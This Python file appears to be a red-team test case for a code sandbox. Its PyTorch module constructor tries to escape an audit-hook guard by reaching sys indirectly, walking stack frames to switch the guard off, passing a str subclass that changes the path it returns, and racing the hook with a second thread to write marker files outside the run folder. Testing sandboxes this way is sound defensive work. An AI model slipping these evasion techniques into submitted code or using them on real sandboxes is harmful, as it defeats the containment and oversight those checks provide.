"""Attack class: lying to the audit hook's path resolution with a `str` subclass (a path that
looks like the run folder when the hook resolves it, and like a host file when `open` uses it),
and racing the hook's shared busy flag from a second thread while the main thread writes."""
import typing

import torch
import torch.nn as nn

def _sys():
    """sys, reached through a module handle of an allowed module (typing.operator)."""
    return typing.operator.attrgetter("sys")(torch)


def _guard_off():
    """Walk the frames up to the worker and clear the diagnostic guard's `active` flag: from here
    on only the OS boundary (bwrap, seccomp, rlimits) stands."""
    f = _sys()._getframe()
    while f is not None:
        for v in list(f.f_locals.values()):
            g = getattr(v, "guard", None)
            if g is not None and hasattr(g, "active"):
                g.active = False
        f = f.f_back


class Liar(str):
    calls = 0

    def __fspath__(self):
        Liar.calls += 1
        return "ESCAPE_DIR/pwned_liar" if Liar.calls > 1 else "inside.txt"


class Mixer(nn.Module):
    def __init__(self, d_model: int, n_heads: int, **kwargs):
        super().__init__()
        sys = _sys()
        bi = sys.modules["builtins"]
        os = sys.modules["os"]
        try:
            bi.open(Liar("inside.txt"), "w").write("x")
        except Exception as exc:
            print("blocked liar", type(exc).__name__)
        stop = []

        def spin():
            while not stop:
                os.stat(".")  # audit events keep the hook busy

        t = sys.modules["threading"].Thread(target=spin)
        t.start()
        for _ in range(200):
            try:
                bi.open("ESCAPE_DIR/pwned_race", "w").write("x")
                break
            except Exception:
                pass
        stop.append(1)
        t.join()
        self.proj = nn.Linear(d_model, d_model)

    def forward(self, x):
        return self.proj(x)
